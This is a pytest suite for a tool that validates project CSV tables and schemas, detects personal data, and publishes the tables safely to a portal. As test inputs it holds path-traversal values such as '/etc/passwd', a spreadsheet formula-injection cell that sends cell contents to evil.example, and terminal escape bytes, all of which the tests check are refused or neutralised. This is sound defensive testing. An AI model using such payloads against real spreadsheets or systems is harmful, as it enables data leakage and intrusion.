"""A project's own tables: validated with frictionless, safely, and published."""

from __future__ import annotations

import csv
import io
import json
import logging
import os
from pathlib import Path
from typing import Any

import pytest
from bs4 import BeautifulSoup
from mkdocs.exceptions import Abort

from cocreate.standard.datafiles import MAX_DATA_BYTES
from cocreate.standard.problems import Position
from cocreate.standard.validate import validate_paths
from helpers import build, make_portal, one

DATA = """data:
  - name: setoran
    title:
      id: Setoran sampah per bulan
      en: Waste deposits per month
    path: setoran.csv
    schema: setoran.schema.json
"""
SCHEMA = {"fields": [{"name": "bulan", "type": "yearmonth"}, {"name": "kg", "type": "number"},
                     {"name": "jenis", "type": "string", "constraints": {"enum": ["plastik", "kertas"]}}]}


@pytest.fixture
def project(tmp_path: Path, minimal_text: str) -> Path:
    folder = tmp_path / "src" / "bank-sampah"
    folder.mkdir(parents=True)
    (folder / "project.yml").write_text(minimal_text + DATA, "utf-8")
    (folder / "setoran.csv").write_text("bulan,kg,jenis\n2024-01,120.5,plastik\n2024-02,80,kertas\n", "utf-8")
    (folder / "setoran.schema.json").write_text(json.dumps(SCHEMA), "utf-8")
    return folder


def problems(folder: Path) -> list[tuple[str, str, Position]]:
    report = validate_paths([folder])
    return [(p.code, Path(p.file).name, p.position) for p in report.problems]


def test_a_valid_table(project: Path) -> None:
    assert problems(project) == []


def test_row_errors_name_the_row_and_field(project: Path) -> None:
    (project / "setoran.csv").write_text("bulan,kg,jenis\n2024-01,abc,plastik\n2024-02,80,kaca\n", "utf-8")
    report = validate_paths([project])
    found = [(p.code, Path(p.file).name, p.position, p.params["field"]) for p in report.problems]
    assert found == [("data-invalid", "setoran.csv", Position(2, 2), "kg"), ("data-invalid", "setoran.csv", Position(3, 3), "jenis")]
    assert "'abc'" in report.problems[0].params["detail"]


def test_missing_file_and_broken_schema(project: Path) -> None:
    (project / "setoran.csv").unlink()
    assert [c for c, *_ in problems(project)] == ["data-file-missing"]
    (project / "setoran.csv").write_text("bulan,kg,jenis\n", "utf-8")
    (project / "setoran.schema.json").write_text("{not json", "utf-8")
    assert [c for c, *_ in problems(project)] == ["data-schema-invalid"]
    (project / "setoran.schema.json").write_text(json.dumps({"fields": [{"name": 1, "type": "nonsense"}]}), "utf-8")
    assert [c for c, *_ in problems(project)] == ["data-schema-invalid"]


def test_links_are_refused_before_frictionless_follows_them(project: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret.csv"
    secret.write_text("bulan,kg,jenis\n", "utf-8")
    (project / "setoran.csv").unlink()
    os.symlink(secret, project / "setoran.csv")
    # the data entry names something that is not a plain file; the folder holds a link
    assert sorted(c for c, *_ in problems(project)) == ["data-file-unsafe", "symlink-in-projects"]


def test_size_is_capped(project: Path) -> None:
    with (project / "setoran.csv").open("w") as handle:
        handle.write("bulan,kg,jenis\n")
        handle.write("2024-01,1,plastik\n" * (MAX_DATA_BYTES // 18 + 1))
    assert [c for c, *_ in problems(project)] == ["data-file-too-large"]


@pytest.mark.parametrize("path", ["../secret.csv", "sub/x.csv", "https://evil.example/x.csv", "/etc/passwd", "x.txt"])
def test_paths_stay_in_the_folder(project: Path, path: str) -> None:
    text = (project / "project.yml").read_text("utf-8").replace("path: setoran.csv", f"path: {json.dumps(path)}")
    (project / "project.yml").write_text(text, "utf-8")
    assert [c for c, *_ in problems(project)] == ["invalid-data-path"]


def test_tables_are_published_in_the_package_and_on_the_page(project: Path, tmp_path: Path) -> None:
    site = build(make_portal(tmp_path / "portal", project.parent))
    published = site / "data" / "projects" / "bank-sampah"
    assert (published / "setoran.csv").read_text("utf-8") == \
        '"bulan","kg","jenis"\n"2024-01","120.5","plastik"\n"2024-02","80","kertas"\n'
    assert json.loads((published / "setoran.schema.json").read_text("utf-8")) == SCHEMA
    package = json.loads((site / "data" / "datapackage.json").read_text("utf-8"))
    resource = next(r for r in package["resources"] if r["name"] == "bank-sampah_setoran")
    assert resource["path"] == "projects/bank-sampah/setoran.csv"
    assert resource["schema"] == SCHEMA
    from frictionless import validate

    assert validate(str(site / "data" / "datapackage.json")).valid
    page = BeautifulSoup((site / "projects" / "bank-sampah" / "index.html").read_text("utf-8"), "html.parser")
    assert one(page, "#data a")["href"] == "../../data/projects/bank-sampah/setoran.csv"


# ----- what a table may hold: personal data, encoding, formulas ---------------------------

TEXT_SCHEMA = {"fields": [{"name": "bulan", "type": "yearmonth"}, {"name": "kg", "type": "number"},
                          {"name": "catatan", "type": "string", "description": "Catatan petugas"}]}


def table(project: Path, csv_text: str | bytes, schema: dict[str, Any] | str | bytes = TEXT_SCHEMA) -> Path:
    """Give the project's table new content: text is written as UTF-8, bytes as they are."""
    for name, content in (("setoran.csv", csv_text), ("setoran.schema.json", schema)):
        if isinstance(content, dict):
            content = json.dumps(content, indent=2)
        (project / name).write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    return project


def found(folder: Path) -> list[tuple[str, str, Position, str]]:
    return [(p.code, Path(p.file).name, p.position, p.field) for p in validate_paths([folder]).problems]


def reports(folder: Path) -> str:
    """Every report format in both languages, as one text: what logs and terminals show."""
    from cocreate.i18n.report import render_github, render_json, render_text

    report = validate_paths([folder])
    return "".join(render(report, language) for render in (render_text, render_json, render_github)
                   for language in ("id", "en"))


def test_an_email_in_a_cell_is_refused_at_its_row_and_column(project: Path) -> None:
    # the second record spans two lines: the third starts on line 4
    table(project, 'bulan,kg,catatan\n2024-01,120.5,"dua\nbaris"\n2024-02,80,"hubungi budi@kota-sukamaju.id"\n')
    assert found(project) == [("personal-data-email", "setoran.csv", Position(4, 3), "catatan")]
    shown = reports(project)
    assert "budi@kota" not in shown
    assert "(bu" + "*" * 17 + "id)" in shown


def test_a_phone_number_in_a_header_is_refused(project: Path) -> None:
    schema = {"fields": [*TEXT_SCHEMA["fields"][:2], {"name": "wa 0812-3456-7890", "type": "string"}]}
    table(project, "bulan,kg,wa 0812-3456-7890\n2024-01,1,x\n", schema)
    text = (project / "setoran.schema.json").read_text("utf-8")
    line = text[: text.index('"wa 0812')].count("\n") + 1
    assert found(project) == [("personal-data-phone", "setoran.csv", Position(1, 3), "wa 0812-3456-7890"),
                              ("personal-data-phone", "setoran.schema.json", Position(line, 15), "fields[2].name")]
    shown = reports(project)
    assert "3456" not in shown
    assert "csv:1:3: error[personal-data-phone]: wa 08**********90: " in shown


def test_a_nik_in_a_schema_description_is_refused(project: Path) -> None:
    schema = json.loads(json.dumps(TEXT_SCHEMA))
    schema["fields"][1]["description"] = "Berat; petugas NIK 3201 2345 6789 0123"
    table(project, "bulan,kg,catatan\n2024-01,1,x\n", schema)
    text = (project / "setoran.schema.json").read_text("utf-8")
    offset = text.index('"Berat;')
    line = text[:offset].count("\n") + 1
    column = offset - text.rfind("\n", 0, offset)
    assert found(project) == [("personal-data-nik", "setoran.schema.json", Position(line, column),
                               "fields[1].description")]
    assert "2345 6789" not in reports(project)


@pytest.mark.parametrize(("schema", "field"), [
    ('{"fields": [{"name": "a", "title": "Budi (0812 3456 7890)"}]}', "fields[0].title"),
    ('{"fields": [{"name": "a", "example": "budi@kota.id"}]}', "fields[0].example"),
    ('{"fields": [{"name": "a", "constraints": {"enum": ["x", "3201234567890123"]}}]}', "fields[0].constraints.enum[1]"),
    ('{"fields": [{"name": "a", "constraints": {"pattern": "x|budi@kota.id"}}]}', "fields[0].constraints.pattern"),
    ('{"fields": [{"name": "a"}], "budi@kota.id": 1}', "budi@kota.id"),  # a key
    ('{"fields": [{"name": "a"}], "x": "0812 3456 7890", "x": "y"}', "x"),  # kept by no JSON reader, published by none
    ('{"fields": [{"name": "a", "description": "budi\\u0040kota.id"}]}', "fields[0].description"),  # escaped
    ('{"fields": [{"name": "a", "example": 3201234567890123}]}', "fields[0].example"),  # a number
    ('{"fields": [{"name": "a", "constraints": {"enum": [3.201234567890123e15]}}]}',  # published 3201234567890123.0
     "fields[0].constraints.enum[0]"),
])
def test_personal_data_anywhere_in_the_schema_is_refused(project: Path, schema: str, field: str) -> None:
    table(project, "a\nx\n", schema)
    problems = [p for p in validate_paths([project]).problems if p.code.startswith("personal-data-")]
    assert [(Path(p.file).name, p.position.line) for p in problems] == [("setoran.schema.json", 1)]
    assert problems[0].field == field


def test_a_build_never_publishes_a_table_with_personal_data(project: Path, tmp_path: Path) -> None:
    table(project, "bulan,kg,catatan\n2024-01,1,budi@kota.id\n")
    with pytest.raises(Abort):
        build(make_portal(tmp_path / "portal", project.parent))
    assert not (tmp_path / "portal" / "site").exists()


@pytest.mark.parametrize(("raw", "position", "shown"), [
    (b"bulan,kg,catatan\n2024-01,1,caf\xe9\n", Position(2, 14), "0xE9"),  # Latin-1
    (b"bulan,kg,catatan\n2024-01,1,ca\x00f\n", Position(2, 13), "U+0000"),  # NUL
    (b"bulan,kg,catatan\r\n2024-01,1,\x1b[2Jx\r\n", Position(2, 11), "U+001B"),  # ESC
    (b"bulan,kg,catatan\r2024-01,1,x\r2024-02,2,\xc2\x85\r", Position(3, 11), "U+0085"),  # C1, CR line ends
    (b"bulan,kg,catatan\n2024-01,1,\xef\xbb\xbfx\n", Position(2, 11), "U+FEFF"),  # a BOM that is not the first
])
def test_a_table_that_is_not_plain_utf8_is_refused_at_the_first_bad_byte(project: Path, raw: bytes,
                                                                         position: Position, shown: str) -> None:
    table(project, raw)
    problems = validate_paths([project]).problems
    assert [(p.code, Path(p.file).name, p.position, p.params["found"]) for p in problems] == \
        [("data-file-encoding", "setoran.csv", position, shown)]


@pytest.mark.parametrize(("raw", "position", "shown"), [
    (b'{"fields": [{"name": "a", "title": "x\\ud800y"}]}', Position(1, 36), "U+D800"),  # half a character
    (b'{"fields": [{"name": "a", "title": "Caf\xe9"}]}', Position(1, 40), "0xE9"),
    (b'{"fields": [\n  {"name": "a", "title": "x\\u0000y"}]}', Position(2, 26), "U+0000"),  # an escape
])
def test_a_schema_that_is_not_plain_utf8_is_refused(project: Path, raw: bytes, position: Position, shown: str) -> None:
    table(project, "a\nx\n", raw)
    problems = validate_paths([project]).problems
    assert [(p.code, Path(p.file).name, p.position, p.params["found"]) for p in problems] == \
        [("data-file-encoding", "setoran.schema.json", position, shown)]


def test_tab_line_breaks_and_a_leading_bom_are_fine(project: Path, tmp_path: Path) -> None:
    table(project, "\ufeffbulan;kg;catatan\r\n2024-01;1;\"a\tb\r\nc\"\r\n", TEXT_SCHEMA)
    assert found(project) == []
    site = build(make_portal(tmp_path / "portal", project.parent))
    assert (site / "data" / "projects" / "bank-sampah" / "setoran.csv").read_bytes() == \
        b'"bulan","kg","catatan"\n"2024-01","1","a\tb\r\nc"\n'


HOSTILE: dict[str, Any] = {
    "fields": [
        {"name": "teks", "type": "string"},
        {"name": "angka", "type": "number"},
        {"name": "kode", "type": "string", "constraints": {"maxLength": 2, "pattern": "[-+]?[0-9]", "unique": True}},
        {"name": "tanda", "type": "string", "constraints": {"enum": ["+", "-", "ok"]}},
        {"name": "apa", "type": "any"},
    ],
    "missingValues": ["", "-"],
}
HOSTILE_ROWS = [
    ["=HYPERLINK(\"https://evil.example/?\"&A1,\"klik\")", "-5", "-1", "+", "@SUM(1)"],
    ["+62 bukan telepon", "+2.5", "+2", "-", "-"],
    ["-x", "-", "3", "ok", "\t=1+2"],
    ["@x", "1", "-4", "-", "\r=1+2"],
    ["\n=1+2", "2", "5", "ok", "a\"b;=1+2"],
]


def test_hostile_cells_are_published_with_a_quote_and_the_package_stays_valid(project: Path, tmp_path: Path) -> None:
    from frictionless import validate

    from cocreate.standard.csvsafe import FORMULA_START, write_rows

    (project / "setoran.csv").write_text(write_rows([[f["name"] for f in HOSTILE["fields"]], *HOSTILE_ROWS]), "utf-8")
    (project / "setoran.schema.json").write_text(json.dumps(HOSTILE), "utf-8")
    assert found(project) == []
    site = build(make_portal(tmp_path / "portal", project.parent))
    text = (site / "data" / "projects" / "bank-sampah" / "setoran.csv").read_bytes().decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1:] == [[cell if not cell.startswith(FORMULA_START) or (column == 1 and cell != "=x") else f"'{cell}"
                         for column, cell in enumerate(row)] for row in HOSTILE_ROWS]
    assert rows[1][0] == "'=HYPERLINK(\"https://evil.example/?\"&A1,\"klik\")"
    assert rows[1][1] == "-5"
    assert text.splitlines()[1].startswith('"\'=HYPERLINK(""https://evil.example/?""&A1,""klik"")","-5",')
    package = json.loads((site / "data" / "datapackage.json").read_text("utf-8"))
    resource = next(r for r in package["resources"] if r["name"] == "bank-sampah_setoran")
    kode, tanda = resource["schema"]["fields"][2:4]
    assert kode["constraints"] == {"maxLength": 3, "pattern": "'?(?:[-+]?[0-9])", "unique": True}
    assert tanda["constraints"] == {"enum": ["'+", "'-", "ok"]}
    assert resource["schema"]["missingValues"] == ["", "-", "'-"]
    assert json.loads((site / "data" / "projects" / "bank-sampah" / "setoran.schema.json").read_text("utf-8")) == \
        resource["schema"]
    report = validate(str(site / "data" / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:10]


@pytest.mark.parametrize(("csv_text", "schema", "position", "field"), [
    ("=a,kg\nx,1\n", {"fields": [{"name": "=a"}, {"name": "kg"}]}, Position(1, 1), "=a"),  # a header
    ("tanggal\n=05/01/2024\n", {"fields": [{"name": "tanggal", "type": "date", "format": "=%d/%m/%Y"}]},
     Position(2, 1), "tanggal"),  # a typed cell that is no number
    ("n\n=1+1\n", {"fields": [{"name": "n", "type": "integer", "bareNumber": False}]}, Position(2, 1), "n"),
    ("kode\n'=a\n=a\n", {"fields": [{"name": "kode", "constraints": {"unique": True}}]}, Position(3, 1), "kode"),
])
def test_a_formula_that_cannot_take_the_quote_is_refused(project: Path, csv_text: str, schema: dict[str, Any],
                                                         position: Position, field: str) -> None:
    table(project, csv_text, schema)
    problems = validate_paths([project]).problems
    assert [(p.code, Path(p.file).name, p.position, p.params["field"]) for p in problems] == \
        [("data-formula", "setoran.csv", position, field)]


def test_a_docs_file_where_a_table_is_published_fails_the_build(project: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    config_file = make_portal(tmp_path / "portal", project.parent)
    docs = tmp_path / "portal" / "content" / "data" / "projects" / "bank-sampah"
    docs.mkdir(parents=True)
    (docs / "setoran.csv").write_text("bulan,kg,jenis\n2024-01,=1+1,plastik\n", "utf-8")
    with caplog.at_level(logging.ERROR), pytest.raises(Abort):
        build(config_file)
    assert any("content/data/projects/bank-sampah/setoran.csv (cocreate writes data/projects/bank-sampah/setoran.csv: "
               "a table of project bank-sampah)" in r.getMessage() for r in caplog.records)


@pytest.mark.parametrize("key", ["name", "path", "schema"])
def test_each_table_has_its_own_name_and_files(project: Path, key: str) -> None:
    text = (project / "project.yml").read_text("utf-8")
    second = DATA.removeprefix("data:\n").replace("name: setoran", "name: kedua").replace(
        "path: setoran.csv", "path: kedua.csv").replace("schema: setoran.schema.json", "schema: kedua.schema.json")
    second = second.replace({"name": "name: kedua", "path": "path: kedua.csv",
                             "schema": "schema: kedua.schema.json"}[key],
                            {"name": "name: setoran", "path": "path: setoran.csv",
                             "schema": "schema: setoran.schema.json"}[key])
    (project / "project.yml").write_text(text + second, "utf-8")
    for name in ("kedua.csv", "kedua.schema.json"):
        (project / name).write_bytes((project / name.replace("kedua", "setoran")).read_bytes())
    problems = validate_paths([project]).problems
    assert [(p.code, p.field) for p in problems] == [("duplicate-item", f"data[1].{key}")]


def test_resource_names_never_clash_across_projects(tmp_path: Path, minimal_text: str) -> None:
    # `projects` + `json` once gave `projects-json`, the name of the portal's own resource;
    # `a` + `b-c` and `a-b` + `c` gave one name to two tables
    from frictionless import validate

    src = tmp_path / "src"
    for slug, name in (("projects", "json"), ("a", "b-c"), ("a-b", "c")):
        (src / slug).mkdir(parents=True)
        (src / slug / "project.yml").write_text(minimal_text + DATA.replace("name: setoran", f"name: {name}"), "utf-8")
        (src / slug / "setoran.csv").write_text("bulan,kg,jenis\n2024-01,1,plastik\n", "utf-8")
        (src / slug / "setoran.schema.json").write_text(json.dumps(SCHEMA), "utf-8")
    site = build(make_portal(tmp_path / "portal", src))
    names = [r["name"] for r in json.loads((site / "data" / "datapackage.json").read_text("utf-8"))["resources"]]
    assert len(names) == len(set(names))
    assert {"projects_json", "a_b-c", "a-b_c"} <= set(names)
    assert validate(str(site / "data" / "datapackage.json")).valid


@pytest.mark.parametrize("number", ["NaN", "Infinity", "-Infinity", "1e999"])
def test_a_schema_number_json_cannot_write_is_refused(project: Path, number: str) -> None:
    table(project, "a\nx\n", '{"fields": [{"name": "a", "type": "number", "constraints": {"maximum": ' + number + "}}]}")
    assert [code for code, *_ in found(project)] == ["data-schema-invalid"]


def test_signed_numbers_in_typed_fields_stay_as_they_are(project: Path) -> None:
    from cocreate.standard.datafiles import published_table

    schema = {"fields": [{"name": "n", "type": "number"}, {"name": "i", "type": "integer"}]}
    table(project, "n,i\n-1e5,-3\n+2.5,+4\n-,5\n", {**schema, "missingValues": ["", "-"]})
    assert found(project) == []
    entry = {"path": "setoran.csv", "schema": "setoran.schema.json"}
    assert published_table(project, entry).rows == [["n", "i"], ["-1e5", "-3"], ["+2.5", "+4"], ["-", "5"]]


def test_publishing_checks_for_personal_data_again(project: Path) -> None:
    # a file changed after validation (mkdocs serve) is not published unchecked
    from cocreate.standard.datafiles import published_table

    table(project, "bulan,kg,catatan\n2024-01,1,budi@kota.id\n")
    with pytest.raises(ValueError, match="personal-data-email"):
        published_table(project, {"path": "setoran.csv", "schema": "setoran.schema.json"})


def test_validation_never_guesses_the_dialect(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # csv.Sniffer, which frictionless runs on CSV text, takes time that grows with the square
    # of the first lines' length: a cell of `,'` repeated 50,000 times would take hours
    import csv as csv_module

    calls: list[str] = []
    monkeypatch.setattr(csv_module.Sniffer, "sniff", lambda _self, sample, *_args, **_kwargs: calls.append(sample))
    table(project, "bulan,kg,catatan\n2024-01,1,\"" + ",'" * 50_000 + "\"\n")
    assert found(project) == []
    assert calls == []
